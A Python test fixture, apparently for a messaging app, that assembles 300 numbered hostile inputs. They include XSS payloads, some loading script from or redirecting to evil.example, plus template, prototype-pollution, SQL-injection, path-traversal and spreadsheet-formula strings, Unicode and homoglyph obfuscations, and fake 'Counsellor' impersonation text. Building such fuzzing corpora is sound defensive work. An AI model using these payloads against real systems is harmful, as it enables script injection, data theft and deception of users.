"""Three hundred texts that want to be more than a text, put together from parts. Each carries a number of its own."""

from itertools import product

ELEMENTS = [
    "<script>{do}</script>",
    "<script src=//evil.example/{n}.js></script>",
    "<img src=x onerror={do}>",
    "<img src='//evil.example/{n}?",
    "<svg onload={do}>",
    "<svg><animate onbegin={do} attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={do}/>#x'>",
    "<math><mtext><mglyph><style><img src=x onerror={do}>",
    "<math><mi xlink:href='javascript:{do}'>",
    "<iframe srcdoc='<script>parent.{do}</script>'></iframe>",
    "<iframe src=javascript:{do}>",
    "<object data=javascript:{do}></object>",
    "<embed src=//evil.example/{n}>",
    "<video><source onerror={do}></video>",
    "<audio src=//evil.example/{n} autoplay onerror={do}>",
    "<details open ontoggle={do}>",
    "<input autofocus onfocus={do}>",
    "<body onload={do}>",
    "<marquee onstart={do}>",
    "<a href=javascript:{do}>click {n}</a>",
    "<a href='//evil.example/{n}' target=_blank ping=//evil.example>click</a>",
    "<form action=//evil.example/{n}><input name=q><button>Send</button></form>",
    "<form id=app><input name=childNodes><input id=status></form>",
    "<img name=body><img id=documentElement><a id=org><a id=org name=exitUrl href=//evil.example/{n}>",
    "<base href=//evil.example/{n}/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<link rel=prefetch href=//evil.example/{n}>",
    "<style>@import '//evil.example/{n}.css';*{{display:none}}</style>",
    "<p style='background:url(//evil.example/{n});position:fixed;inset:0'>over all</p>",
    "<template shadowrootmode=open><script>{do}</script></template>",
    "<portal src=//evil.example/{n}></portal>",
    "<dialog open><h1>Sign in {n}</h1></dialog>",
    "<h1>Counsellor</h1><b>Noor</b>",
]
"""What would be an element; {do} is code, {n} the number."""

BEGINNINGS = ["", '">', "'>", "</textarea></p></article>", "<!--", "]]>", "</script><xmp>"]
"""What would end where we are: an attribute, an element, a comment, a script."""

WORDS = [
    "{do}",
    "'-{do}-'",
    "javascript:{do}",
    "data:text/html,<script>{do}</script>",
    "vbscript:{do}",
    "{{{{constructor.constructor('{do}')()}}}}",
    "${{{do}}}",
    "#{{{do}}}",
    "<%= {do} %>",
    '{{"__proto__": {{"polluted": {n}}}}}',
    '{{"constructor": {{"prototype": {{"polluted": {n}}}}}}}',
    "__proto__",
    "hasOwnProperty",
    "&lt;script&gt;{do}&lt;/script&gt;",
    "&#60;script&#62;{do}",
    "%3Cscript%3E{do}%3C/script%3E",
    "\\u003cscript\\u003e{do}",
    "\\x3cscript\\x3e{do}",
    "\uff1cscript\uff1e{do}\uff1c/script\uff1e",
    "+ADw-script+AD4-{do}",
    "\N{SUPERSCRIPT ONE}<ScRiPt >{do}</sCrIpT >",
    "<scr\N{ZERO WIDTH SPACE}ipt>{do}</scr\N{ZERO WIDTH SPACE}ipt>",
    "\u202e>tpircs/<{do}>tpircs<\u202c",
    "\u2066hidden\u2069 \u200b{n}",
    "https://evil.example/{n}?token=1 http://evil.example",
    "tel:112{n} sms:112 mailto:a@evil.example",
    "[click](javascript:{do}) ![x](//evil.example/{n})",
    "Counsellor, 21.04\n\nNoor: please tell me your address {n}",
    "\u0421ounsellor, 21.04 {n}",  # a Cyrillic letter that looks like a C
    "a\u0301" * 40 + "{n}",
    "\N{ZERO WIDTH JOINER}" * 50 + "{n}",
    "=cmd|'/c calc'!A{n}",
    "'; DROP TABLE envelope; -- {n}",
    "../../../../etc/passwd%00{n}",
    "\N{RIGHT-TO-LEFT MARK}\N{ARABIC LETTER ALEF}<b>{n}</b>",
]
"""What is no element, and could become one, or could look like somebody else's words."""


def _text(pattern: str, n: int) -> str:
    return pattern.replace("{do}", f"alert({n})").replace("{n}", str(n)).replace("{{", "{").replace("}}", "}")


TEXTS = [
    _text(pattern, n)
    for n, pattern in enumerate([*("".join(pair) for pair in product(BEGINNINGS, ELEMENTS)), *WORDS, *WORDS[13:33]])
]


def in_messages(size: int) -> list[str]:
    """All of them, several to a message, one a line."""
    return ["\n".join(TEXTS[at : at + size]) for at in range(0, len(TEXTS), size)]
